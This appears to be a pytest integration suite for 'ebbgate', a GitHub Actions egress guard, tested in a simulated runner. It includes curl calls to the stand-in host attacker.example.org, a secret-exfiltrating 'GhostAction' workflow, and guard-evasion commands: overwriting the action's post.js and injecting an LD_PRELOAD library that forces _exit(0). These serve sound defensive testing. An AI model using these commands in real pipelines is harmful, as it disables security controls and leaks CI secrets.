"""The action with the real program, in the simulator: what the runner, the action and the guard make of a job together."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from ebbgate.events.reading import read_run
from ebbgate.policy.learned import learn
from tests.action.test_act import GHOST_ACTION, arrived, ghost_action
from tests.machine import Machine
from tests.runner import JobResult, Runner
from tests.runner.driver import EBBGATE

pytestmark = pytest.mark.root

LOCKS = "protect-memory: 'false'"  # of the real machine's kernel: out of a namespace's reach


@pytest.fixture
def runner(machine: Machine, real_release: Path) -> Runner:
    one = Runner(machine)
    one.release(real_release)
    return one


def job(steps: str, given: str = "mode: enforce") -> str:
    return f"""
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: {EBBGATE}
        id: guard
        with:
          {LOCKS}
          {given}
{steps}
"""


def words(result: JobResult) -> str:
    return "\n".join([result.log, result.summary, *(one.message for one in result.annotations)])


def test_a_job_that_does_no_harm_passes(runner: Runner, machine: Machine) -> None:
    result = runner.run(job("      - run: curl -sS https://api.example.com/fine", "allow: api.example.com"))
    assert result.conclusion == "success", result.log + result.errors
    assert "clean" in result.summary
    assert [one.requests[0].path for one in machine.world.connections if one.requests] == ["/fine"]


def test_a_step_keeps_the_journal_for_an_upload(runner: Runner, machine: Machine, tmp_path: Path) -> None:
    steps = "      - run: curl -sS https://api.example.com/fine\n"
    steps += "      - run: ${{ steps.guard.outputs.command }} verdict --report /tmp/kept\n"
    result = runner.run(job(steps, "mode: audit"))
    assert result.conclusion == "success", result.log + result.errors
    (tmp_path / "events.jsonl").write_text(machine.read("/tmp/kept/events.jsonl"))
    run = read_run(tmp_path)
    document = yaml.safe_load(learn([run], None, "ci.yml").text)
    assert [one["host"] for one in document["jobs"][run.started.job]["allow"]] == ["api.example.com"]


def test_ghostaction_step_is_ended_and_the_job_fails(runner: Runner, machine: Machine, secret: str) -> None:
    workflow, secrets = ghost_action("enforce", secret)
    result = runner.run(workflow, secrets=secrets)
    assert result.conclusion == "failure", result.log
    assert result.step("Run ebbgate", "post").code == 91
    assert arrived(machine) == b""
    for word in ("PYPI_API_TOKEN", "attacker.example.org", "curl"):
        assert word in words(result)
    assert secret not in words(result)


def test_ghostaction_without_the_guard_is_an_attack(runner: Runner, machine: Machine, secret: str) -> None:
    result = runner.run(GHOST_ACTION, secrets={"PYPI_API_TOKEN": secret, "DOCKERHUB_TOKEN": secret})
    assert result.conclusion == "success"
    assert secret.encode() in arrived(machine)


@pytest.mark.parametrize(
    ("given", "told"),
    [
        ("alow: api.example.com", "did you mean allow?"),
        ("mode: enforced", "input mode"),
        ("mode: audit\n          egress-policy: block", "contradict"),
        ("allow: '*'", "ebbgate"),
    ],
)
def test_bad_inputs_fail_before_anything_is_changed(runner: Runner, machine: Machine, given: str, told: str) -> None:
    result = runner.run(job("      - run: echo guarded", given))
    assert result.conclusion == "failure"
    assert result.step("guard", "pre").code == 2, result.log
    assert told in result.messages("error")[0]
    assert "guarded" not in result.lines
    assert machine.run(["nft", "list", "ruleset"], user="root").stdout == ""
    assert not machine.inside(lambda: Path("/run/ebbgate").exists())


def test_a_second_start_is_refused_and_the_first_guard_stays(runner: Runner, machine: Machine) -> None:
    result = runner.run(
        job(
            f"      - uses: {EBBGATE}\n        if: always()\n        with:\n          {LOCKS}\n      - run: curl -sS https://attacker.example.org/\n        if: always()"
        )
    )
    assert result.conclusion == "failure", result.log + result.errors
    assert arrived(machine) == b""


def test_the_guard_outlives_the_runners_clean_up(runner: Runner, machine: Machine) -> None:
    result = runner.run(job("      - run: setsid sleep 300 >/dev/null 2>&1 &"))
    assert any("Terminate orphan process" in line for line in result.lines)
    after = machine.run(["curl", "-sS", "--max-time", "5", "https://attacker.example.org/"])
    assert after.code != 0 or "Ebbgate" in after.stdout
    assert arrived(machine) == b""
    assert machine.run(["/bin/sh", "-c", "/var/lib/ebbgate/*/bin/python -I -m ebbgate status"]).code == 0


FOLDER = '"$RUNNER_WORKSPACE/../_actions/ebbgate/ebbgate/v1/src/action"'
EXIT = "__attribute__((constructor)) static void leave(void) { _exit(0); }"
SUBVERSIONS = {
    "a replaced script": f"echo 'process.exit(0)' >{FOLDER}/post.js",
    "a preloaded library": f"echo '#include <unistd.h>\n{EXIT}' >/tmp/l.c; gcc -shared -o /tmp/l.so /tmp/l.c; "
    'echo "LD_PRELOAD=/tmp/l.so" >>"$GITHUB_ENV"',
}


@pytest.mark.parametrize("name", SUBVERSIONS)
def test_a_last_step_that_ends_well_although_the_job_must_fail_ends_the_runner(
    runner: Runner, machine: Machine, name: str
) -> None:
    script = f"curl -sS https://attacker.example.org/; {SUBVERSIONS[name]}"
    result = runner.run(job(f"      - run: |\n          {script.replace(chr(10), chr(10) + '          ')}"))
    assert result.conclusion != "success", result.log
    assert arrived(machine) == b""
    events = machine.inside(lambda: Path("/run/ebbgate/events.jsonl").read_text())
    assert "the guard ended the runner" in events
